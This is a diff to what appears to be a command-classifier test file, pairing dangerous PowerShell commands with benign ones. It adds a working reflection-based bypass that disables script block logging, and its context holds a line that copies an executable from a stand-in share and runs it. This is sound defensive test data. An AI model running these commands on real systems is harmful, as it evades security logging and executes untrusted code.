@@ -4729,6 +4729,19 @@ ORDINARY += [("PowerShell", _ps(r'reg query "HKLM\SOFTWARE\Microsoft\Windows NT\
 DANGEROUS += [("PowerShell", _ps(r"Copy-Item \\files.example\drop\x.exe C:\t\; & C:\t\x.exe"), "remote-code")]
 ORDINARY += [("PowerShell", _ps(r"Copy-Item \\files.example\drop\report.pdf C:\t"))]
 
+# PowerShell's logging switched off from inside the session through reflection (S-RULE-175).
+DANGEROUS += [
+    (
+        "PowerShell",
+        _ps(
+            "$s=[Ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings',"
+            "'NonPublic,Static').GetValue($null); $s['ScriptBlockLogging']['EnableScriptBlockLogging']=0"
+        ),
+        "security-weakening",
+    )
+]
+ORDINARY += [("PowerShell", _ps("Get-WinEvent -ProviderName Microsoft-Windows-PowerShell -MaxEvents 5"))]
+
 CATEGORY_OF: dict[str, str] = {
     "recursive-delete": "destruction",
     "wildcard-delete": "destruction",
